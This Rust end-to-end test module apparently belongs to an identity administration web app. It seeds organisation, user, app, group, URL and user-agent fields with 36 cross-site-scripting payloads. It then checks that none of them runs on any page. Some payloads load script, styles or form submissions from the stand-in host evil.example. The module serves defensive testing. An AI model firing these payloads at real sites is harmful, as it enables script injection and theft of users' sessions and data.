//! Names that are scripts, in every field that somebody may choose, on every page that shows it. None runs, and none becomes
//! anything but text.

use super::{Claims, Row, once, site::Site};
use crate::tour::Tour;
use serde_json::{Value, json};
use std::{fs, path::Path};

pub const STORIES: &[Row] = &[
    once("security::canaries in names", names),
    once("security::canaries in apps, groups, roles and the audit log", records),
    once("security::canaries in addresses and forms", reflected),
    once("security::canaries in what browsers say of themselves", agents),
];

/// What was found to run somewhere. `CALL` becomes a call that tells us.
const CANARIES: [&str; 36] = [
    "<script>CALL</script>",
    "<ScRiPt>CALL</sCrIpT>",
    "\"><script>CALL</script>",
    "'><script>CALL</script>",
    "</title><script>CALL</script>",
    "</textarea><script>CALL</script>",
    "--><script>CALL</script>",
    "<script src=//evil.example/x.js></script>",
    "<img src=x onerror=CALL>",
    "\"><img src=x onerror=CALL>",
    "<img src=x onerror=\"CALL\"//",
    "<svg onload=CALL>",
    "<svg/onload=CALL>",
    "<svg><script>CALL</script></svg>",
    "<svg><animate onbegin=CALL attributeName=x dur=1s>",
    "<body onload=CALL>",
    "<details open ontoggle=CALL>x</details>",
    "<input autofocus onfocus=CALL>",
    "\" autofocus onfocus=CALL x=\"",
    "' autofocus onfocus=CALL x='",
    "\" onmouseover=CALL style=\"position:fixed;inset:0\" x=\"",
    "<iframe srcdoc=\"<script>parent.CALL</script>\"></iframe>",
    "<iframe src=javascript:parent.CALL></iframe>",
    "<object data=javascript:CALL></object>",
    "<embed src=javascript:CALL>",
    "<a href=javascript:CALL>prize</a>",
    "javascript:CALL",
    "<form action=//evil.example/><button>prize</button></form>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content=\"0;url=//evil.example/\">",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>body{background:url(//evil.example/x)}</style>",
    "<math><mtext></mtext><script>CALL</script></math>",
    "<template><script>CALL</script></template>",
    "{{constructor.constructor('CALL')()}}${CALL}",
    "&lt;script&gt;CALL&lt;/script&gt;",
];

fn canary(n: usize) -> String {
    CANARIES[n].replace("CALL", &format!("canary({n})"))
}

/// Listens on every page from before its own first script.
const TRAP: &str = "globalThis.caught = []; globalThis.canary = (n) => globalThis.caught.push(n); \
    document.addEventListener('securitypolicyviolation', (event) => globalThis.caught.push(event.violatedDirective + ' ' + event.sample));";

/// What came of the canaries on this page: what ran, what was stopped only by the policy, what became an element.
const CATCH: &str = "
const all = [...document.querySelectorAll('*')];
const bad = all.filter((one) =>
  ['IFRAME', 'OBJECT', 'EMBED', 'BASE', 'STYLE', 'MATH', 'TEMPLATE', 'ANIMATE'].includes(one.nodeName.toUpperCase())
  || (one.nodeName === 'SCRIPT' && !one.src.startsWith(location.origin + '/assets/'))
  || [...one.attributes].some(({ name, value }) => name.startsWith('on') || name === 'srcdoc' || name === 'style'
    || (['href', 'src', 'action', 'formaction', 'data'].includes(name) && /^\\s*(javascript|data|vbscript):|evil\\.example/i.test(value))));
return [...(globalThis.caught ?? ['no trap']), ...bad.map((one) => one.outerHTML.slice(0, 120))];
";

/// Nothing became of the canaries here; answers with how many are on the page as text.
fn caught(tour: &Tour<'_>, claims: &Claims, page: &str) -> usize {
    let caught = tour.chrome.run(CATCH, &[]);
    let none = caught.as_array().is_some_and(Vec::is_empty);
    claims.check(
        format!("no canary runs on {page}{}", if none { String::new() } else { format!(": {caught}") }),
        none,
    );
    let text = tour.chrome.run("return document.documentElement.textContent", &[]);
    let text = format!("{} {}", text.as_str().unwrap(), values(tour));
    (0..CANARIES.len()).filter(|n| text.contains(&canary(*n))).count()
}

/// What stands in fields.
fn values(tour: &Tour<'_>) -> String {
    let script =
        "return [...document.querySelectorAll('input, textarea, select')].map((one) => one.value).join(' ')";
    tour.chrome.run(script, &[]).as_str().unwrap().to_owned()
}

fn trap(tour: &Tour<'_>) {
    tour.chrome.devtools("Page.addScriptToEvaluateOnNewDocument", json!({ "source": TRAP }));
}

/// Organisations, guests and members with such names, brought in by the operator's tool.
fn populate(tour: &Tour<'_>) {
    let mut lines = Vec::new();
    for n in 0..CANARIES.len() {
        let name = canary(n);
        let domain = format!("canary-{n}.example");
        lines.push(json!({ "organization": { "domain": domain, "displayName": name } }));
        let home = tour.named("GUEST_USERNAME");
        lines.push(json!({ "guest": { "organization": domain, "home": home, "displayName": name } }));
        let profile = json!({ "jobTitle": name, "department": name, "companyName": name });
        let mail = format!("canary-{n}@mail.example");
        lines.push(json!({ "guest": { "organization": "contoso.example", "mail": mail, "displayName": name, "givenName": name, "surname": name, "profile": profile } }));
        let gone = format!("gone-{n}@mail.example");
        lines.push(json!({ "guest": { "organization": "contoso.example", "mail": gone, "displayName": name, "deletionCause": "left",
            "id": format!("cccccccc-0000-4000-8000-{n:012}"), "createdDateTime": days_ago(2), "deletedDateTime": days_ago(1) } }));
    }
    let file = tour.scene.place.path("canaries.jsonl");
    fs::write(&file, lines.iter().map(|line| format!("{line}\n")).collect::<String>()).unwrap();
    tour.scene.place.run(&["import", "--data-dir", "world", "--jsonl", "canaries.jsonl"]).ok();
}

/// Apps, groups with a guest in them, and members with a role that have such names; ids of the apps and of the members.
fn register(tour: &Tour<'_>) -> (Vec<String>, Vec<String>) {
    let graph = tour.graph();
    let id = |made: &Value, name: &str| made[name].as_str().unwrap().to_owned();
    let mut apps = Vec::new();
    for n in 0..CANARIES.len() {
        let public = json!({ "redirectUris": ["http://localhost:9/"] });
        let app = json!({ "displayName": canary(n), "publicClient": public });
        let app = id(&graph.post("/v1.0/applications", &app).is(201).json(), "appId");
        graph.post("/v1.0/servicePrincipals", &json!({ "appId": app })).is(201);
        apps.push(app);
        let group = json!({ "displayName": canary(n), "description": canary(n), "mailEnabled": false, "mailNickname": format!("canary{n}"), "securityEnabled": true });
        let group = id(&graph.post("/v1.0/groups", &group).is(201).json(), "id");
        let guest = format!("https://graph.microsoft.com/v1.0/directoryObjects/{}", tour.named("GUEST_ID"));
        graph.post(&format!("/v1.0/groups/{group}/members/$ref"), &json!({ "@odata.id": guest })).is(204);
    }
    let member = |n: usize| {
        let password =
            json!({ "password": "violet harbour tram seventeen", "forceChangePasswordNextSignIn": false });
        let body = json!({ "displayName": canary(n), "userPrincipalName": format!("canary-{n}@contoso.example"), "mailNickname": format!("canary-{n}"), "accountEnabled": true, "passwordProfile": password });
        id(&graph.post("/v1.0/users", &body).is(201).json(), "id")
    };
    (apps, FEW.map(member).to_vec())
}

#[expect(clippy::disallowed_methods, reason = "the servers under test run by the clock of this machine")]
fn days_ago(days: i64) -> String {
    let since = std::time::SystemTime::now().duration_since(std::time::UNIX_EPOCH).unwrap();
    let now = model::Timestamp::from_seconds(i64::try_from(since.as_secs()).unwrap());
    (now - model::Span::days(days)).to_graph()
}

/// Follows the list to its end, and looks at every page of it.
fn list(tour: &Tour<'_>, claims: &Claims, path: &str) -> usize {
    tour.go(path);
    let mut shown = 0;
    for page in 1..=12 {
        shown += caught(tour, claims, &format!("{path}, page {page}"));
        let weight = crate::look::weight(tour.chrome);
        claims.check(format!("{path}, page {page}, weighs {weight} bytes"), weight < crate::look::HEAVIEST);
        let next = tour.chrome.all("link", Some(&tour.t("next-page")));
        let Some(next) = next.first() else { break };
        next.follow();
    }
    shown
}

fn names(tour: &Tour<'_>) {
    let claims = Claims::default();
    populate(tour);
    trap(tour);
    // The trap works: on a page without a policy, a canary sings.
    let site = Site::open(true);
    tour.chrome.open(&format!("https://evil.example:{}/", site.port));
    tour.chrome.run("document.body.innerHTML = '<img src=x onerror=canary(0)>'", &[]);
    let sung = tour
        .chrome
        .run_async("const done = arguments[0]; setTimeout(() => done(globalThis.caught), 300)", &[]);
    assert_eq!(sung, json!([0]), "the trap catches nothing");
    tour.go_as("/myaccount/organizations", tour.guest());
    let all = CANARIES.len();
    let shown = list(tour, &claims, "/myaccount/organizations");
    claims.check(format!("organisations are shown by these names: {shown}"), shown >= all);
    for n in FEW {
        tour.chrome
            .find_described(
                "link",
                &tour.t("leave"),
                &canary(n).split_whitespace().collect::<Vec<_>>().join(" "),
            )
            .follow();
        caught(tour, &claims, &format!("the confirmation of organisation {n}"));
        tour.press("leave");
        caught(tour, &claims, &format!("the receipt of organisation {n}"));
        tour.go("/myaccount/organizations");
    }
    tour.chrome.forget();
    trap(tour);
    tour.go_as("/admin", tour.admin());
    let shown = list(tour, &claims, "/admin/deleted-users");
    claims.check(format!("deleted users are shown by these names: {shown}"), shown >= all);
    let shown = list(tour, &claims, "/admin/users?show=guests");
    claims.check(format!("guests are shown by these names: {shown}"), shown >= all);
    let guests =
        tour.graph().get("/v1.0/users?$filter=startswith(mail,'canary-')&$count=true&$top=40&$select=id");
    for guest in guests["value"].as_array().unwrap() {
        let id = guest["id"].as_str().unwrap();
        tour.go(&format!("/admin/users/{id}"));
        claims.check(
            format!("guest {id} is shown by name"),
            caught(tour, &claims, &format!("guest {id}")) >= 1,
        );
    }
    tour.go(&format!("/admin/users/remove?id={}", guests["value"][0]["id"].as_str().unwrap()));
    claims.check("removing asks by name", caught(tour, &claims, "removing") >= 1);
    for n in FEW {
        tour.go(&format!("/admin/deleted-users/cccccccc-0000-4000-8000-{n:012}/delete"));
        claims.check(
            format!("deleting {n} asks by name"),
            caught(tour, &claims, &format!("deleting {n}")) >= 1,
        );
    }
    claims.hold();
}

/// Those that are shown on pages of their own, too.
const FEW: [usize; 4] = [0, 9, 18, 34];

/// One canary's page: it is there by name, as text.
fn one(tour: &Tour<'_>, claims: &Claims, path: &str) {
    tour.go(path);
    let shown = caught(tour, claims, path);
    claims.check(format!("{path} shows it by name"), shown >= 1);
}

/// Every canary is on this list.
fn every(tour: &Tour<'_>, claims: &Claims, path: &str) {
    let shown = list(tour, claims, path);
    claims.check(format!("{path} shows all by name: {shown}"), shown >= CANARIES.len());
}

fn records(tour: &Tour<'_>) {
    let claims = Claims::default();
    let (apps, members) = register(tour);
    trap(tour);
    tour.go_as("/admin", tour.admin());
    every(tour, &claims, "/admin/apps");
    for n in FEW {
        let page = format!("/admin/apps/{}", apps[n]);
        for below in ["", "/disable", "/delete", "/permissions/add", "/permissions/grant?delegated=User.Read"]
        {
            one(tour, &claims, &format!("{page}{below}"));
        }
    }
    let inviter = format!("/admin/roles/{}", model::authz::Role::GuestInviter.template());
    for member in &members {
        one(tour, &claims, &format!("{inviter}/give?person={member}"));
        tour.press("role-give");
        caught(tour, &claims, "the notice of a role");
        one(tour, &claims, &format!("{inviter}/take/{member}"));
        one(tour, &claims, &format!("/admin/users/{member}"));
    }
    one(tour, &claims, &inviter);
    one(tour, &claims, "/admin/roles");
    every(tour, &claims, &format!("/admin/users/{}", tour.named("GUEST_ID")));
    for (activity, name) in
        [("Add application", "activity-add-application"), ("Add group", "activity-add-group")]
    {
        let path = format!("/admin/audit?activity={}", activity.replace(' ', "+"));
        every(tour, &claims, &path);
        tour.go(&path);
        tour.chrome.all("link", Some(&tour.t(name))).first().unwrap().follow();
        claims.check(format!("{activity} names it"), caught(tour, &claims, "an audit record") >= 1);
    }
    for n in FEW {
        one(tour, &claims, &tour.asks(&apps[n], "http://localhost:9/"));
    }
    tour.go("/explorer");
    tour.fill("explorer-target", "groups?$top=100&$select=displayName");
    tour.chrome.find("button", &tour.t("explorer-run")).click();
    tour.chrome.says("canary(35)");
    let answer = tour.chrome.run("return document.querySelector('#answer pre').textContent", &[]);
    let answer: Value = serde_json::from_str(answer.as_str().unwrap()).unwrap();
    let is_there = |n: usize| {
        answer["value"].as_array().unwrap().iter().any(|one| one["displayName"] == canary(n).as_str())
    };
    claims.check("the explorer shows what was answered", (0..CANARIES.len()).all(is_there));
    caught(tour, &claims, "the explorer");
    claims.hold();
}

/// Makes an address of a text.
type Door = Box<dyn Fn(String) -> String>;

/// Texts that come in the address and are shown again.
fn reflected(tour: &Tour<'_>) {
    let claims = Claims::default();
    trap(tour);
    let encoded = |n: usize| canary(n).bytes().map(|byte| format!("%{byte:02X}")).collect::<String>();
    let tenant = tour.named("TENANT_ID").to_owned();
    let client = tour.named("PUBLIC_CLIENT_ID").to_owned();
    let doors: [(&str, Door); 7] = [
        ("the organisation named by a link", Box::new(|text| format!("/myaccount?tenantId={text}"))),
        ("the user name named by a link", Box::new(|text| format!("/signin?userName={text}"))),
        ("the way back", Box::new(|text| format!("/signin?return={text}"))),
        ("an address that is not there", Box::new(|text| format!("/{text}"))),
        ("an invitation", Box::new(|text| format!("/invitations/redeem?ticket={text}"))),
        (
            "what an app asks for",
            Box::new(|text| {
                format!(
                    "/common/oauth2/v2.0/authorize?client_id={text}&response_type={text}&scope={text}&state={text}"
                )
            }),
        ),
        (
            "where an app wants to be answered",
            Box::new(move |text| {
                format!(
                    "/{tenant}/oauth2/v2.0/authorize?client_id={client}&response_type=code&scope=openid&redirect_uri={text}"
                )
            }),
        ),
    ];
    for (name, door) in doors {
        for n in 0..CANARIES.len() {
            tour.go(&door(encoded(n)));
            let mut broken = Claims::default();
            caught(tour, &broken, name);
            let broken = std::mem::take(&mut broken.0).into_inner();
            claims.check(format!("{name}: {} {broken:?}", canary(n)), broken.is_empty());
        }
    }
    for n in 0..CANARIES.len() {
        tour.go("/signin");
        tour.fill("sign-in-user-name", &canary(n));
        tour.press("next");
        caught(tour, &claims, &format!("a user name that is {n}"));
    }
    tour.chrome.log();
    claims.hold();
}

/// The list of devices shows what browsers say of themselves.
fn agents(tour: &Tour<'_>) {
    let claims = Claims::default();
    let (user_name, password) = tour.guest();
    let port = tour.named("BASE_URL").rsplit_once(':').unwrap().1;
    for n in 0..CANARIES.len() {
        let client = crate::server::client(Path::new(tour.named("CA_FILE")));
        let ask = |request: reqwest::blocking::RequestBuilder| {
            request
                .header("accept", "text/html")
                .header("sec-fetch-site", "same-origin")
                .header("user-agent", canary(n))
                .send()
                .unwrap()
        };
        let address = format!("https://localhost:{port}/signin");
        let shown = ask(client.get(&address));
        let cookie = shown.headers()["set-cookie"].to_str().unwrap().split(';').next().unwrap().to_owned();
        let page = crate::page::Page { status: 200, location: None, body: shown.text().unwrap() };
        let csrf = page.field("csrf");
        let fields =
            [("csrf", csrf.as_str()), ("step", "password"), ("userName", user_name), ("password", password)];
        assert_eq!(ask(client.post(&address).header("cookie", cookie).form(&fields)).status(), 303);
    }
    trap(tour);
    tour.go_as("/myaccount/sessions", tour.guest());
    caught(tour, &claims, "the list of devices");
    let rows: Vec<Value> =
        tour.chrome.all("listitem", None).iter().map(|row| row.name.clone().into()).collect();
    claims.check(format!("every device is there: {}", rows.len()), rows.len() >= CANARIES.len());
    claims.hold();
}
